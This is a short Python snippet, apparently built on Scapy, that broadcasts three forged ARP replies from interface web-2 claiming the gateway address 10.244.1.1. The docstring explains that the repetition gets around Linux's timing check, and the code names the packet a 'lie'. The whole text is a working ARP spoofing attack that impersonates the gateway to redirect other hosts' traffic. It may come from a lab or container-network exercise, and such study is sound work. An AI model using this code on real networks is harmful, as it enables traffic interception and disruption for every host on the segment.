"""web-2 says to everybody on its bridge: the gateway 10.244.1.1 is me.

Three times, since Linux takes no other answer within a second of one.
"""

mac, everybody = get_if_hwaddr("web-2"), "ff:ff:ff:ff:ff:ff"
lie = ARP(op="is-at", hwsrc=mac, psrc="10.244.1.1", hwdst=everybody, pdst="10.244.1.1")
sendp(Ether(src=mac, dst=everybody) / lie, iface="web-2", count=3, inter=0.6, verbose=0)
